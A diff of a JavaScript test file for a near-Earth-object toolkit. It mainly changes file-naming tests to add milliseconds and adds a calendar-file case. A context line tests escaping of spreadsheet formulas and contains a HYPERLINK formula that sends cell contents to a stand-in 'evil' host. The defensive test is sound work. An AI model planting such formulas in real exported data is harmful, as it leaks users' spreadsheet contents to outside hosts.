@@ -90,9 +90,12 @@ test('a remark is a remark to programs, and no part of it a formula to a spreads
   expect(line).toBe(`# Orbit of a,'=HYPERLINK('http://evil/?'&A1;'x'): 32.44°, -110.79°; '-5 km; '+1+1`);
 });
 
-test('a file is named after the toolkit and the time of the download', () => {
+test('a file is named after the toolkit, what it holds and the time of the download, as pictures are, without a blank', () => {
   const now = Temporal.Instant.from('2026-11-21T02:10:05.678Z');
   expect(fileName('ephemerides', 'Near-Earth object toolkit', now, 'txt')).toBe(
-    'Near-Earth-object-toolkit_ephemerides_2026-11-21T02-10-05Z.txt',
+    'Near-Earth-object-toolkit_ephemerides_2026-11-21T02-10-05.678Z.txt',
+  );
+  expect(fileName('close approaches', 'Near-Earth object toolkit', now, 'ics')).toBe(
+    'Near-Earth-object-toolkit_close-approaches_2026-11-21T02-10-05.678Z.ics',
   );
 });
